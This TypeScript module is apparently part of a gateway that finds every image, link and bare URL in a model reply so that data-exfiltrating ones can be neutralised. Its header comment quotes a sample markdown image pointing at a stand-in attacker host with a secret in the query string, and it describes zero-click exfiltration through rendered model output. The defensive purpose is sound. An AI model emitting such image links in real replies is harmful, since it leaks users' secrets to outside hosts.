/**
 * Finds every image, link and bare URL in a model reply, so that the gateway can neutralise the ones that
 * carry data out. A renderer fetches `![x](https://evil.example/p?d=<secret>)` as soon as the reply is shown
 * (zero-click exfiltration), so markdown images and links (inline, reference-style, autolinks), HTML elements
 * with URL attributes and bare URLs are all reported with their exact UTF-16 span and every destination.
 *
 * The parser follows CommonMark and GFM closely enough to agree with real renderers on ordinary replies.
 * Where block structure is ambiguous it prefers reporting a construct a renderer would not show over missing
 * one it would: an image mistaken for code would reach the caller unchecked. Every step runs in (near)
 * linear time, so an adversarial reply cannot stall the gateway.
 *
 * This module is the entry and the assembly: the block scanner (markdown-blocks.ts) says which stretches the
 * inline parser (markdown-inline.ts) reads; HTML elements (html-*.ts), reference definitions
 * (link-definitions.ts) and stylesheets add what they reach; nested constructs are merged into spans
 * (constructs.ts); bare URLs (bare-urls.ts) fill the text that is left. The URL helpers the guard decides with
 * live in url-parts.ts and are re-exported here.
 */

import { bareUrls } from './bare-urls.ts';
import { mergeIntoSpans } from './constructs.ts';
import { extendAnchors, styleConstructs } from './html-extents.ts';
import type { SrcdocReader } from './html-urls.ts';
import { definitionConstructs, definitionsByLabel } from './link-definitions.ts';
import { scanBlocks } from './markdown-blocks.ts';
import { DocumentScan, InlineParser } from './markdown-inline.ts';
import { RangeIndex, type Range } from './ranges.ts';

export { hostAllowed, hostOf, schemeOf } from './url-parts.ts';

export type LinkKind = 'image' | 'link' | 'url';

export interface LinkSpan {
  /** image: fetched by the renderer without a click; link: hides its destination behind text; url: a bare URL shown as is. */
  readonly kind: LinkKind;
  /** UTF-16 offset of the first code unit of the whole construct. */
  readonly start: number;
  /** UTF-16 offset just after the construct (exclusive). */
  readonly end: number;
  /** Visible text: link text, image alt (may be ''), the URL itself for 'url'. Nested markup is reduced to its text. */
  readonly text: string;
  /** The main destination: the construct's first image URL if it has one, else its link target. */
  readonly url: string;
  /** Every destination in the construct, `url` first, without duplicates. */
  readonly urls: readonly string[];
}

/**
 * Every image, link and bare URL in `text`, sorted by start and non-overlapping. When constructs nest (an image
 * inside a link) the outermost span is reported; it is an image if anything inside it is, and `urls` holds
 * the destinations of everything inside it.
 */
export function findLinks(text: string): LinkSpan[] {
  return findLinksAt(text, 0);
}

// An iframe's srcdoc may hold another iframe with a srcdoc; two levels are read, deeper ones are not followed.
const MAX_SRCDOC_DEPTH = 2;

/** `depth` counts the srcdoc documents `text` is nested in. */
function findLinksAt(text: string, depth: number): LinkSpan[] {
  const layout = scanBlocks(text);
  const definitions = definitionsByLabel(layout.definitions);
  const readSrcdoc: SrcdocReader = depth < MAX_SRCDOC_DEPTH ? (html) => srcdocUrls(html, depth) : null;
  const doc = new DocumentScan(text, definitions, readSrcdoc);
  for (const segment of layout.blocks) new InlineParser(doc, segment).run();
  for (const segment of layout.cells) new InlineParser(doc, segment).run();
  extendAnchors(doc);
  const constructs = [
    ...doc.constructs,
    ...styleConstructs(doc),
    ...definitionConstructs(layout.definitions, definitions, doc.imageLabels),
  ];
  const spans = mergeIntoSpans(text, constructs, new RangeIndex(doc.tags));
  const blocked: Range[] = [...spans.map((s): Range => [s.start, s.end]), ...doc.tags, ...doc.codeDelimiters];
  return [...spans, ...bareUrls(text, blocked)].sort((a, b) => a.start - b.start);
}

/** An iframe's srcdoc is a whole HTML document; its images load with the frame. */
function srcdocUrls(html: string, depth: number): string[] {
  return findLinksAt(html, depth + 1)
    .filter((span) => span.kind !== 'url')
    .flatMap((span) => span.urls);
}
